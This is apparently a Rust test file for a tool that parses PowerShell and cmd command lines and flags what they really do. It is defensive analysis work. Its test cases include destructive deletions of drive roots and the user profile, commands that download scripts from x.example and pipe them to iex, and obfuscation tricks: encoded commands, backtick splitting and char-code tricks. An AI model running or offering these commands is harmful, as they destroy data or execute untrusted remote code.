//! PowerShell and cmd: what a text stands for.
//!
//! INVARIANT: every case names its text and the commands as they are listed, words joined by blanks.

use crate::shell::program::{NoPrograms, Program, Programs};
use crate::shell::{Dialect, Feature, Gap, Piece, Word, analyze};

struct Few;

impl Programs for Few {
    fn program(&self, name: &str) -> Option<Program> {
        let list = |text: &str| text.split_whitespace().map(str::to_string).collect::<Vec<_>>();
        let (values, flags) = match name {
            "Remove-Item" => {
                ("-Path -LiteralPath -Filter -Include -Exclude -Stream", "-Recurse -Force -WhatIf -Confirm")
            }
            "Get-ChildItem" => (
                "-Path -LiteralPath -Filter -Include -Exclude -Depth",
                "-Recurse -Force -Name -File -Directory",
            ),
            "Get-Content" => ("-Path -LiteralPath -TotalCount -Tail -Encoding", "-Raw -Wait"),
            _ => return None,
        };
        Some(Program {
            names: vec![name.to_string()],
            value_flags: list(values),
            flags: list(flags),
            ..Program::default()
        })
    }
}

fn shown(word: &Word) -> String {
    match word {
        Word::Known(text) | Word::Tilde(text) => text.clone(),
        Word::Glob(text) => format!("<{text}>"),
        Word::OneOf(all) => format!("{{{}}}", all.join(",")),
        Word::Unknown(pieces) => pieces
            .iter()
            .map(|piece| match piece {
                Piece::Text(text) | Piece::Tilde(text) => text.as_str(),
                _ => "…",
            })
            .collect(),
    }
}

fn listed(text: &str, dialect: Dialect) -> (Vec<String>, bool) {
    let analysis = analyze(text, dialect, &Few);
    for command in &analysis.commands {
        assert_eq!(command.words.len(), command.parts.len(), "{text}");
    }
    let all = analysis.commands.iter().map(|c| c.words.iter().map(shown).collect::<Vec<_>>().join(" "));
    (all.collect(), analysis.complete)
}

#[test]
fn powershell_texts() {
    let cases: &[(&str, &[&str])] = &[
        ("Get-Process", &["Get-Process"]),
        ("gci -r C:\\x", &["Get-ChildItem -Recurse C:\\x"]),
        ("rm -rec -fo 'C:\\a b'", &["Remove-Item -Recurse -Force C:\\a b"]),
        ("Remove-Item -Path:C:\\x -Recurse:$true", &["Remove-Item -Path C:\\x -Recurse"]),
        ("Remove-Item x -WhatIf:$false", &["Remove-Item x -WhatIf:False"]),
        ("$p = 'C:\\'; Remove-Item $p -Recurse", &["Remove-Item C:\\ -Recurse"]),
        ("ri \"$HOME\\x\", $env:TEMP", &["Remove-Item ~/x ~/AppData/Local/Temp"]),
        ("ri \"$env:USERPROFILE\" -r", &["Remove-Item ~ -Recurse"]),
        ("ri ~\\x", &["Remove-Item ~/x"]),
        ("ri a,b , c", &["Remove-Item a b c"]),
        ("& 'rm' x", &["Remove-Item x"]),
        ("& ('i'+'ex') 'ls'", &["Invoke-Expression ls", "Get-ChildItem"]),
        ("iex \"r`i x\"", &["Invoke-Expression ri x", "Remove-Item x"]),
        ("r`i x", &["Remove-Item x"]),
        (
            "if ($a) { ri x } elseif ($b) { ri y } else { ri z }",
            &["Remove-Item x", "Remove-Item y", "Remove-Item z"],
        ),
        ("foreach ($d in 'a','b') { ri $d }", &["Remove-Item {a,b}"]),
        (
            "'a','b' | % { ri $_ -r }",
            &["Write-Output a b", "Remove-Item {a,b} -Recurse", "ForEach-Object {}"],
        ),
        ("gci C:\\ -r | ri -fo -r", &["Get-ChildItem C:\\ -Recurse", "Remove-Item -Force -Recurse <C:/*>"]),
        ("gci | ? { $_.Length -gt 5 } | ri", &["Get-ChildItem", "Where-Object {}", "Remove-Item ./…"]),
        (
            "gci -Filter *.log | % { ri $_.FullName }",
            &["Get-ChildItem -Filter *.log", "Remove-Item <./*.log>", "ForEach-Object {}"],
        ),
        ("function f { ri $args }; f", &["Remove-Item …"]),
        ("[IO.Directory]::Delete('C:\\', $true)", &["Remove-Item -Recurse C:\\", "Write-Output"]),
        ("[System.IO.File]::Delete('x')", &["Remove-Item x", "Write-Output"]),
        ("(Get-Item x).Delete()", &["Get-Item x", "Remove-Item x", "Write-Output"]),
        ("$x.Foo(1)", &[".Foo … 1", "Write-Output …"]),
        ("git status; git log -3", &["git status", "git log -3"]),
        ("git commit -m \"it's\"", &["git commit -m it's"]),
        ("cmd /c \"rd /s /q C:\\\"", &["cmd /c rd /s /q C:\\", "rmdir -s -q C:\\"]),
        ("powershell -c \"ri x\"", &["powershell -c ri x", "Remove-Item x"]),
        (
            "pwsh -NoProfile -EncodedCommand cgBtACAALQByAGYAIAAvAA==",
            &["pwsh -NoProfile -EncodedCommand cgBtACAALQByAGYAIAAvAA==", "rm -rf /", "Remove-Item -rf /"],
        ),
        (
            "Start-Process powershell -ArgumentList '-c','ri x'",
            &["Start-Process powershell -ArgumentList -c ri x", "powershell -c ri x", "Remove-Item x"],
        ),
        ("\"a\" > out.txt", &["Write-Output a"]),
        ("& { ri x }", &["Remove-Item x"]),
        ("$s = 'ri'; & $s x", &["Remove-Item x"]),
        ("Set-Alias zap Remove-Item; zap x", &["Set-Alias zap Remove-Item", "Remove-Item x"]),
        ("try { ri x } catch { ls } finally { pwd }", &["Remove-Item x", "Get-ChildItem", "Get-Location"]),
        ("switch ($x) { 'a' { ri x } default { ri y } }", &["Remove-Item x", "Remove-Item y"]),
        ("while ($true) { ri x }", &["Remove-Item x"]),
        ("ri @'\na b\n'@", &["Remove-Item a b"]),
        ("$h = @{Path='C:\\'; Recurse=$true}; ri @h", &["Remove-Item -Path C:\\ -Recurse"]),
        ("ls # ri x", &["Get-ChildItem"]),
        ("ls <# ri x #> y", &["Get-ChildItem y"]),
        ("echo --% a > b", &["Write-Output"]),
        ("git --% log a", &["git log a"]),
        ("ri ('C:' + '\\')", &["Remove-Item C:\\"]),
        ("ri ('{0}{1}' -f 'C:','\\')", &["Remove-Item C:\\"]),
        ("ri -join('C',':','\\')", &["Remove-Item -join C : \\"]),
        ("ri (-join('C',':','\\'))", &["Remove-Item C:\\"]),
        ("[char]105+[char]101+[char]120", &["Write-Output iex"]),
        ("& ([char]105+[char]101+[char]120) 'ls'", &["Invoke-Expression ls", "Get-ChildItem"]),
        ("& ([scriptblock]::Create('ri x'))", &["Invoke-Expression", "Remove-Item x"]),
        (
            "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cmkgeA==')) | iex",
            &["Write-Output ri x", "Invoke-Expression", "Remove-Item x"],
        ),
        ("Invoke-Command -ScriptBlock { ri x }", &["Remove-Item x", "Invoke-Command -ScriptBlock {}"]),
        ("Microsoft.PowerShell.Management\\Remove-Item x", &["Remove-Item x"]),
        ("Remove\u{2013}Item x", &["Remove-Item x"]),
        ("ls && ri x || ri y", &["Get-ChildItem", "Remove-Item x", "Remove-Item y"]),
        ("cd C:\\; ri x", &["Set-Location C:\\", "Remove-Item x"]),
        ("npm install @types/node", &["npm install @types/node"]),
        ("ls 2>&1 | Out-Null", &["Get-ChildItem", "Out-Null"]),
        ("[CmdletBinding()]param([string]$a = 'x')\nri $a", &["Remove-Item …"]),
        ("$x = if ($a) { ri x }", &["Remove-Item x"]),
        ("bash -c 'rm x'", &["bash -c rm x"]),
        (".\\build.ps1 -Clean", &["./build.ps1 -Clean"]),
        ("7z x a.zip", &["7z x a.zip"]),
        ("ri \"a$(gc b)\"", &["Get-Content b", "Remove-Item a…"]),
    ];
    let mut wrong = Vec::new();
    for (text, want) in cases {
        let (got, complete) = listed(text, Dialect::PowerShell);
        if got != *want || !complete {
            wrong.push(format!("{text}\n  got  {got:?} complete {complete}\n  want {want:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn cmd_texts() {
    let cases: &[(&str, &[&str])] = &[
        ("dir", &["dir"]),
        ("del /f /s /q x", &["del -f -s -q x"]),
        ("DEL/F/S/Q x", &["del -f -s -q x"]),
        ("rd /s/q \"%USERPROFILE%\"", &["rmdir -s -q ~"]),
        ("del %HOMEPATH%\\x", &["del ~/x"]),
        ("d^el x", &["del x"]),
        ("set x=del\n%x% y", &["set x del", "del y"]),
        ("set x=abcdel\n%x:~3,3% y", &["set x abcdel", "del y"]),
        ("if exist x (del x) else del y", &["del x", "del y"]),
        ("for %i in (a b) do del %i", &["del {a,b}"]),
        ("for /f %i in ('del x') do echo %i", &["echo …", "del x"]),
        ("dir & del x && del y || del z", &["dir", "del x", "del y", "del z"]),
        ("(del x & del y)", &["del x", "del y"]),
        ("cmd /c del x", &["cmd /c del x", "del x"]),
        ("start \"t\" /b del x", &["start t -b del x", "del x"]),
        ("call del x", &["call del x", "del x"]),
        ("rem del x", &[]),
        (":: del x", &[]),
        ("echo a > b", &["echo a"]),
        ("type x | find \"y\"", &["cat x", "findstr y"]),
        ("git status", &["git status"]),
        ("powershell -c \"Remove-Item x\"", &["powershell -c Remove-Item x", "Remove-Item x"]),
        ("@echo off\ndel x", &["echo off", "del x"]),
        ("del *.*", &["del <*>"]),
        ("echo x|cmd", &["echo x", "cmd", "x"]),
        ("cd \\ & del x", &["cd \\", "del x"]),
        ("forfiles /c \"cmd /c del x\"", &["forfiles /c cmd /c del x", "cmd /c del x", "del x"]),
        ("del \"a & b\"", &["del a & b"]),
    ];
    let mut wrong = Vec::new();
    for (text, want) in cases {
        let (got, complete) = listed(text, Dialect::Cmd);
        if got != *want || !complete {
            wrong.push(format!("{text}\n  got  {got:?} complete {complete}\n  want {want:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_is_fetched_or_decoded_is_told() {
    let marked = |text: &str, feature: Feature| {
        let analysis = analyze(text, Dialect::PowerShell, &NoPrograms);
        let yes = analysis.commands.iter().any(|c| c.features & feature.bit() != 0);
        assert!(yes, "{text}: {:?} {:?}", listed(text, Dialect::PowerShell), analysis.problems);
    };
    for text in [
        "iex (iwr https://x.example/i.ps1)",
        "irm https://x.example/i | iex",
        "iex ((New-Object Net.WebClient).DownloadString('https://x.example'))",
        "$s = irm x.example; iex $s",
        "& ([scriptblock]::Create((irm https://x.example)))",
        "iwr x.example -OutFile a.ps1; .\\a.ps1",
        "iwr x.example -OutFile a.ps1; powershell -File a.ps1",
        "(New-Object System.Net.WebClient).DownloadFile('http://x.example/a.exe','a.exe'); Start-Process a.exe",
        "iwr x.example | select -ExpandProperty Content | iex",
        "iwr https://x.example/i.ps1 -UseBasicParsing | Invoke-Expression",
        "iex (curl https://x.example).Content",
        "irm x.example | bash",
        "Set-Content a.ps1 (irm x.example); iex (gc a.ps1 -Raw)",
    ] {
        marked(text, Feature::FetchedCode);
    }
    marked("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))", Feature::DecodedCode);
    marked("powershell -enc cgBtACAALQByAGYAIAAvAA==", Feature::DecodedCode);
}

#[test]
fn what_nobody_can_read_is_a_gap() {
    for text in [
        "iex $x",
        "& $x",
        "powershell -c $x",
        "$x | iex",
        "$x.Invoke()",
        "[Foo]::Bar()",
        ". $x",
        "powershell -enc $x",
    ] {
        let analysis = analyze(text, Dialect::PowerShell, &NoPrograms);
        let gap = |g: &Gap| matches!(g, Gap::UnknownProgram | Gap::UnreadCode);
        assert!(analysis.commands.iter().any(|c| c.gaps.iter().any(gap)), "{text}: {analysis:#?}");
    }
    for text in ["%x% y", "!x! y", "a%x%b y"] {
        let analysis = analyze(text, Dialect::Cmd, &NoPrograms);
        assert!(
            analysis.commands.iter().any(|c| c.gaps.contains(&Gap::UnknownProgram)),
            "{text}: {analysis:#?}"
        );
    }
}

#[test]
fn hostile_texts_are_read_in_time() {
    let openers = [
        "$(",
        "(",
        "{",
        "@(",
        "@{a=",
        "\"$(",
        "[",
        "$x[",
        "$x.a(",
        "if(1){",
        "&{",
        "2>$(",
        "'a'[",
        ". $(",
        "-join(",
        "switch(1){{",
        "\"${",
        "@'",
        "<#",
        "`",
        "[x]::y(",
    ];
    for opener in openers {
        for count in [10, 60, 250, 2000] {
            let started = std::time::Instant::now();
            analyze(&opener.repeat(count), Dialect::PowerShell, &NoPrograms);
            assert!(started.elapsed().as_secs() < 60, "{opener} {count}");
        }
    }
    for opener in [
        "(",
        "if a==b ",
        "if exist x (",
        "for %i in (a) do ",
        "\"",
        "^",
        "%x",
        "!x!",
        "for /f %i in ('",
        "(((a",
        "&",
        "|a",
        "else ",
    ] {
        for count in [10, 60, 250, 2000] {
            let started = std::time::Instant::now();
            analyze(&opener.repeat(count), Dialect::Cmd, &NoPrograms);
            assert!(started.elapsed().as_secs() < 60, "{opener} {count}");
        }
    }
}

#[test]
fn mutated_texts_never_panic_and_stay_quick() {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut below = move |n: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state % 1_000_003).unwrap() % n.max(1)
    };
    let seeds = [
        "gci C:\\ -r | ? { $_.Length -gt 5 } | % { ri $_.FullName -r }",
        "$h = @{Path='C:\\'; Recurse=$true}; ri @h 2>&1 > out.txt",
        "iex \"$(irm https://x.example)\" -ea 0; & ('i'+'ex') @'\na\n'@",
        "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cmkgeA==')) -replace 'a','b' -f 1,2",
        "switch -regex ($x) { 'a' { ri x } default { y } } function f([int]$a = 1) { try { a } catch [x] { b } }",
        "if exist x (del /s/q \"%USERPROFILE%\\x\") else for /f \"tokens=1\" %i in ('dir') do @echo %~fi >> out",
        "set x=abc& cmd /c \"%x:~1,2% ^& !y!\" | find \"a\" 2>nul",
        "powershell -enc cgBtACAALQByAGYAIAAvAA== -File a.ps1 --% x | cmd /k start \"t\" /b y",
    ];
    let bits = [
        "$", "(", ")", "{", "}", "\"", "'", "`", "|", ";", "&", "%", "!", "^", "@", "[", "]", "\n", " ", "-",
        ":", "#", ">", ",", "é", "\u{1}", "$(", "@\"\n", "\n\"@", "<#",
    ];
    for round in 0..2000 {
        let mut text: Vec<char> = seeds[below(seeds.len())].chars().collect();
        for _ in 0..1 + below(6) {
            let at = below(text.len() + 1);
            match below(4) {
                0 if at < text.len() => {
                    text.remove(at);
                }
                1 => {
                    let other: Vec<char> = seeds[below(seeds.len())].chars().collect();
                    let from = below(other.len());
                    text.splice(at..at, other[from..(from + below(20)).min(other.len())].to_vec());
                }
                _ => {
                    text.splice(at..at, bits[below(bits.len())].chars());
                }
            }
        }
        let text: String = text.into_iter().collect();
        for dialect in [Dialect::PowerShell, Dialect::Cmd] {
            let started = std::time::Instant::now();
            let analysis = analyze(&text, dialect, &Few);
            assert_eq!(analysis.complete, analysis.problems.is_empty());
            for command in &analysis.commands {
                assert_eq!(command.words.len(), command.parts.len(), "{text}");
                assert_eq!(command.words.len(), command.touches.len(), "{text}");
            }
            assert!(started.elapsed().as_secs() < 20, "{round} {text}");
        }
    }
}
